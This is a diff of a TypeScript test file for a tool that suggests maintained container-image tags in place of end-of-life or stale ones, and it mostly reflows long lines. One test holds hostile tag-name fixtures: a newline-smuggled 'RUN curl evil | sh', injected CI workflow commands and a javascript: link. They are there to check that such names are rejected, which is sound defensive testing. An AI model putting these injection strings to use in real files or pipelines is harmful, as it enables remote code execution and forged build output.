@@ -1,5 +1,14 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { compareVersions, parseTagName, pinnedReference, suggestionFor, suggestTag, tagReference, type SuggestionInput, type SuggestOptions } from '../../src/check/suggest';
+import {
+  compareVersions,
+  parseTagName,
+  pinnedReference,
+  suggestionFor,
+  suggestTag,
+  tagReference,
+  type SuggestionInput,
+  type SuggestOptions,
+} from '../../src/check/suggest';
 import { HttpClient } from '../../src/http/client';
 import { PlatformClient } from '../../src/platform/client';
 import type { Tag } from '../../src/platform/schemas';
@@ -13,7 +22,8 @@ const tag = (name: string, deprecated = false): Tag => ({ name, digest: `sha256:
 const tags = (live: string[], eol: string[] = []) => [...live.map((n) => tag(n)), ...eol.map((n) => tag(n, true))];
 const suggest = (list: Tag[], eol: string) => suggestTag(list, eol)?.name ?? null;
 /** The suggestion for `result` from a repo's listing (null: not fetched), as advice makes it. */
-const suggestionOn = (result: SuggestionInput, list: Tag[] | null, options?: SuggestOptions) => suggestionFor(result, () => (list ? suggestTag(list, result.tag, options) : null));
+const suggestionOn = (result: SuggestionInput, list: Tag[] | null, options?: SuggestOptions) =>
+  suggestionFor(result, () => (list ? suggestTag(list, result.tag, options) : null));
 
 describe('parseTagName', () => {
   it.each([
@@ -71,7 +81,10 @@ describe('suggestTag', () => {
   });
 
   it('keeps the variant', () => {
-    const list = tags(['latest', 'latest-dev', '1.27', '1.27-dev', '1.28-fips', '1.27-fips-dev'], ['1.26', '1.26-dev', '1.26-fips', '1.26-fips-dev']);
+    const list = tags(
+      ['latest', 'latest-dev', '1.27', '1.27-dev', '1.28-fips', '1.27-fips-dev'],
+      ['1.26', '1.26-dev', '1.26-fips', '1.26-fips-dev'],
+    );
     expect(suggest(list, '1.26')).toBe('1.27');
     expect(suggest(list, '1.26-dev')).toBe('1.27-dev');
     expect(suggest(list, '1.26-fips')).toBe('1.28-fips');
@@ -133,7 +146,22 @@ describe('suggestTag', () => {
     expect(suggestTag(list, '3.11', { ending: new Set(['3.12']) })?.name).toBe('3.13');
     expect(suggestTag(list, '3.11', { ending: new Set(['3.12', '3.13']) })?.name).toBe('latest');
     expect(suggestTag(list, '3.11', { ending: new Set(['3.12', '3.13', 'latest']) })?.name).toBe('3.12');
-    expect(suggestionOn({ registry: 'cgr.dev', org: 'chainguard', image: 'python', tag: '3.11', pinnedDigest: null, digest: null, deprecated: true, status: 'eol' }, list, { ending: new Set(['3.12']) })).toBe('cgr.dev/chainguard/python:3.13');
+    expect(
+      suggestionOn(
+        {
+          registry: 'cgr.dev',
+          org: 'chainguard',
+          image: 'python',
+          tag: '3.11',
+          pinnedDigest: null,
+          digest: null,
+          deprecated: true,
+          status: 'eol',
+        },
+        list,
+        { ending: new Set(['3.12']) },
+      ),
+    ).toBe('cgr.dev/chainguard/python:3.13');
   });
 
   it('returns the listed tag with its digest', () => {
@@ -144,7 +172,13 @@ describe('suggestTag', () => {
 
 describe('tag names from a hostile service', () => {
   it('never suggests a name outside the tag grammar (newlines, markup, spaces): the suggestion is written into files by update', () => {
-    const hostile = ['1.28\n::error::forged', '1.28-dev\nRUN curl evil | sh', '1.29-dev [x](javascript:alert(1))', '1.30-dev @octocat', 'latest-dev\n::stop-commands::x'];
+    const hostile = [
+      '1.28\n::error::forged',
+      '1.28-dev\nRUN curl evil | sh',
+      '1.29-dev [x](javascript:alert(1))',
+      '1.30-dev @octocat',
+      'latest-dev\n::stop-commands::x',
+    ];
     const tags = [tag('1.27-dev', true), ...hostile.map((name) => tag(name))];
     expect(suggestTag(tags, '1.27-dev')).toBeNull();
     // With a maintained sibling beside them, that sibling is the one.
@@ -161,18 +195,34 @@ describe('references', () => {
     expect(pinnedReference(name, '1.27', digest)).toBe(`cgr.dev/chainguard/nginx:1.27@${digest}`);
   });
 
-  const base: SuggestionInput = { ...name, tag: '1.26', pinnedDigest: null, digest: `sha256:${hex(1)}`, deprecated: true, status: 'eol' };
+  const base: SuggestionInput = {
+    ...name,
+    tag: '1.26',
+    pinnedDigest: null,
+    digest: `sha256:${hex(1)}`,
+    deprecated: true,
+    status: 'eol',
+  };
   const list = [tag('1.27'), tag('1.26', true)];
 
   it('an end-of-life tag: the maintained tag, pinned when the reference was', () => {
     expect(suggestionOn(base, list)).toBe('cgr.dev/chainguard/nginx:1.27');
-    expect(suggestionOn({ ...base, pinnedDigest: `sha256:${hex(2)}` }, list)).toBe(`cgr.dev/chainguard/nginx:1.27@${list[0]!.digest}`);
+    expect(suggestionOn({ ...base, pinnedDigest: `sha256:${hex(2)}` }, list)).toBe(
+      `cgr.dev/chainguard/nginx:1.27@${list[0]!.digest}`,
+    );
     expect(suggestionOn(base, null)).toBeNull();
     expect(suggestionOn(base, [tag('1.26', true)])).toBeNull();
   });
 
   it('a stale pin: the same tag at its current digest', () => {
-    const stale: SuggestionInput = { ...base, tag: '1.27', deprecated: false, status: 'stale', pinnedDigest: `sha256:${hex(2)}`, digest };
+    const stale: SuggestionInput = {
+      ...base,
+      tag: '1.27',
+      deprecated: false,
+      status: 'stale',
+      pinnedDigest: `sha256:${hex(2)}`,
+      digest,
+    };
     expect(suggestionOn(stale, list)).toBe(`cgr.dev/chainguard/nginx:1.27@${digest}`);
     expect(suggestionOn({ ...stale, status: 'ok' }, list)).toBeNull();
     expect(suggestionOn({ ...stale, digest: null, status: 'stale' }, list)).toBeNull();
@@ -182,7 +232,14 @@ describe('references', () => {
     const asked: string[] = [];
     const nextTag = (name: string) => () => (asked.push(name), list[0]!);
     expect(suggestionFor(base, nextTag('eol'))).toBe('cgr.dev/chainguard/nginx:1.27');
-    const stale: SuggestionInput = { ...base, tag: '1.27', deprecated: false, status: 'stale', pinnedDigest: `sha256:${hex(2)}`, digest };
+    const stale: SuggestionInput = {
+      ...base,
+      tag: '1.27',
+      deprecated: false,
+      status: 'stale',
+      pinnedDigest: `sha256:${hex(2)}`,
+      digest,
+    };
     expect(suggestionFor(stale, nextTag('stale'))).toBe(`cgr.dev/chainguard/nginx:1.27@${digest}`);
     expect(suggestionFor({ ...stale, status: 'ok' }, nextTag('ok'))).toBeNull();
     expect(asked).toEqual(['eol']);
@@ -205,7 +262,12 @@ describe('the seed catalog, over the emulator', () => {
     expect(SEED.deprecatedTags.length).toBeGreaterThan(0);
     const suggestions: Record<string, string | null> = {};
     for (const { org, image, tag: eol } of SEED.deprecatedTags) {
-      const client = new PlatformClient({ http, apiUrl: emu.url, token: emu.apiToken, group: org === SEED.privateOrg ? emu.rootGroup : undefined });
+      const client = new PlatformClient({
+        http,
+        apiUrl: emu.url,
+        token: emu.apiToken,
+        group: org === SEED.privateOrg ? emu.rootGroup : undefined,
+      });
       const [repo] = await client.findRepos(org, image);
       const listed = await client.listTags(repo!.uid);
       const next = suggestTag(listed, eol);
